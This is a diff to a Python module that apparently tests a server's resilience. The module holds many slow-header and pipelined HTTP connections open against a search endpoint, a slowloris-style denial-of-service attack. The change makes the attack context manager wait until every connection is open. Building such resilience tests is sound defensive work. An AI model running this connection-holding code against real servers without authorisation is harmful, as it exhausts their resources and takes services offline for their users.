@@ -15,11 +15,12 @@ import ssl
 import threading
 import time
 from collections import Counter
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass, field
 from http.client import HTTPConnection, HTTPException, HTTPSConnection
 from itertools import cycle, islice
+from multiprocessing.synchronize import Event
 from statistics import quantiles
 from urllib.parse import quote, urlsplit
 
@@ -34,6 +35,8 @@ LONG_ANSWERS = (
 PATHS = tuple(f"/search?q={quote(words)}" for words in ("公开", "依申请公开", "公开 申请", "复议", '"主动公开"'))
 PIPELINED = 8
 """Requests in a row on a connection whose answers are not read: more than the buffers between the two take."""
+OPENED_WITHIN = 60.0
+"""Seconds until all connections of an attack have to be open."""
 AGAIN = 0.5
 """Seconds until a connection that the server closed is opened again."""
 
@@ -99,7 +102,7 @@ def what_is_sent(kind: str, number: int, host: str, key: str | None = None, pref
     return (asked * PIPELINED).encode()
 
 
-async def _hold(kind: str, number: int, server: Server, key: str | None) -> None:
+async def _hold(kind: str, number: int, server: Server, key: str | None, opened: Callable[[], None]) -> None:
     """Keep one such connection; one byte more of a header every few seconds, as slow clients send."""
     while True:
         connection = socket.socket(socket.AF_INET6 if ":" in server.host else socket.AF_INET)
@@ -108,6 +111,7 @@ async def _hold(kind: str, number: int, server: Server, key: str | None) -> None
             connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
         try:
             await asyncio.get_running_loop().sock_connect(connection, (server.host, server.port))
+            opened()
             await _speak(kind, number, server, connection, key)
         except OSError:
             pass
@@ -135,22 +139,33 @@ async def _speak(kind: str, number: int, server: Server, connection: socket.sock
         writer.transport.abort()
 
 
-def _attack(url: str, numbers: dict[str, int], key: str | None) -> None:
-    server = Server.of(url)
+def _attack(url: str, numbers: dict[str, int], key: str | None, all_open: Event) -> None:
+    server, left = Server.of(url), sum(numbers.values())
+
+    def opened() -> None:
+        nonlocal left
+        left -= 1
+        if left <= 0:
+            all_open.set()
 
     async def run() -> None:
-        await asyncio.gather(*(_hold(kind, one, server, key) for kind, many in numbers.items() for one in range(many)))
+        held = (_hold(kind, one, server, key, opened) for kind, many in numbers.items() for one in range(many))
+        await asyncio.gather(*held)
 
     asyncio.run(run())
 
 
 @contextmanager
 def attack(url: str, connections: int, kinds: tuple[str, ...] = KINDS, key: str | None = None) -> Iterator[None]:
-    """Hold so many connections, of all kinds alike, from a process of its own."""
+    """Hold so many connections, of all kinds alike, from a process of its own; begin when that many were opened."""
     numbers = {kind: connections // len(kinds) for kind in kinds}
-    process = multiprocessing.get_context("spawn").Process(target=_attack, args=(url, numbers, key), daemon=True)
+    spawn = multiprocessing.get_context("spawn")
+    all_open = spawn.Event()
+    process = spawn.Process(target=_attack, args=(url, numbers, key, all_open), daemon=True)
     process.start()
     try:
+        if not all_open.wait(OPENED_WITHIN):
+            raise TimeoutError(f"not all of {connections} connections were taken within {OPENED_WITHIN:g} seconds")
         yield
     finally:
         process.kill()
